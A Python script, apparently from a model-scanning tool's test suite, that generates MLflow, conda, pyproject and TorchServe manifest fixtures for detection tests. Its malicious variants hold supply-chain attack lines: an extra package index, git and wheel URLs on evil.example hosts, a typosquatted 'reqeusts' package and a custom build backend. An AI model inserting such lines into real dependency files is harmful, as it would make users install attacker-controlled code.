"""Write tests/data/manifests/: dependency manifests as the real tools write them, and
hand-made malicious variants (hosts under ``.example``; nothing here is fetched or installed).

* ``mlflow_model/``: MLmodel, conda.yaml, python_env.yaml and requirements.txt as MLflow writes
  them (``tests/factories/mlflow_env.py`` reproduces MLflow's writers).
* ``torchserve/*.mar``: archives built by torch-model-archiver itself (its CLI), with a
  ``torch.save`` state dict, a handler and a requirements file.
* ``malicious/`` and ``benign/``: requirements, environment and pyproject files.

Usage: ``python scripts/make_manifest_fixtures.py`` (needs pyyaml, torch and
torch-model-archiver).  Every file is listed, with its expected verdict, in
``tests/data/verdict_record.json`` (``MODELXRAY_RECORD_VERDICTS=1``).
"""

from __future__ import annotations

import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
OUT = ROOT / "tests" / "data" / "manifests"
EVIL = "https://packages.evil.example/simple"
HANDLER = (
    "from ts.torch_handler.base_handler import BaseHandler\n\n\n"
    "class Handler(BaseHandler):\n    pass\n"
)

FILES = {
    "malicious/requirements-extra-index.txt": f"--extra-index-url {EVIL}\nhelpers==1.0\n",
    "malicious/requirements-git.txt": "numpy==1.26.4\ngit+https://git.evil.example/x/helpers.git\n",
    "malicious/requirements-typosquat.txt": "reqeusts==2.31.0\nnumpy==1.26.4\n",
    "malicious/conda-git/conda.yaml": (
        "channels:\n- conda-forge\ndependencies:\n- python=3.10.12\n- pip<=23.2.1\n- pip:\n"
        "  - mlflow==2.9.2\n  - helpers @ https://files.evil.example/helpers-1.0-py3-none-any.whl\n"
        "name: mlflow-env\n"
    ),
    "malicious/pyproject-backend/pyproject.toml": (
        '[build-system]\nrequires = ["setuptools>=68"]\nbuild-backend = "backend"\n'
        'backend-path = ["_build"]\n'
    ),
    "benign/requirements-pytorch-index.txt": (
        "--extra-index-url https://download.pytorch.org/whl/cu121\ntorch==2.3.0\n"
        "torchvision==0.18.0\n"
    ),
    "benign/environment.yml": (
        "name: demo\nchannels:\n  - pytorch\n  - conda-forge\ndependencies:\n  - python=3.11\n"
        "  - pytorch=2.3\n  - pip\n  - pip:\n    - transformers==4.40.0\n    - safetensors\n"
    ),
    "benign/pyproject/pyproject.toml": (
        '[build-system]\nrequires = ["setuptools>=68", "wheel"]\n'
        'build-backend = "setuptools.build_meta"\n\n[project]\nname = "demo"\nversion = "1.0"\n'
        'dependencies = ["torch>=2", "safetensors"]\n\n[tool.isort]\nprofile = "black"\n'
    ),
}


def _mar(name: str, requirements: str, handler: str) -> None:
    import torch

    with tempfile.TemporaryDirectory() as tmp:
        src = Path(tmp)
        torch.save({"w": torch.zeros(2)}, src / "model.pt")
        (src / "handler.py").write_text(HANDLER)
        (src / "requirements.txt").write_text(requirements)
        exe = shutil.which("torch-model-archiver")
        assert exe, "pip install torch-model-archiver"
        subprocess.run(
            [exe, "--model-name", name, "--version", "1.0",
             "--serialized-file", str(src / "model.pt"),
             "--handler", str(src / handler) if handler.endswith(".py") else handler,
             "--requirements-file", str(src / "requirements.txt"),
             "--export-path", str(OUT / "torchserve"), "--force"],
            check=True,
        )  # fmt: skip


def main() -> None:
    sys.path.insert(0, str(ROOT))
    from tests.factories import mlflow_env

    if OUT.exists():
        shutil.rmtree(OUT)
    mlflow_env.model_dir(OUT / "mlflow_model")
    for rel, text in FILES.items():
        path = OUT / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    (OUT / "torchserve").mkdir()
    _mar("clean", "numpy==1.26.4\n", "handler.py")
    _mar("builtin_handler", "numpy==1.26.4\n", "image_classifier")
    _mar("evil_requirements", f"--extra-index-url {EVIL}\nreqeusts\n", "handler.py")
    print(f"wrote {OUT}")


if __name__ == "__main__":
    main()
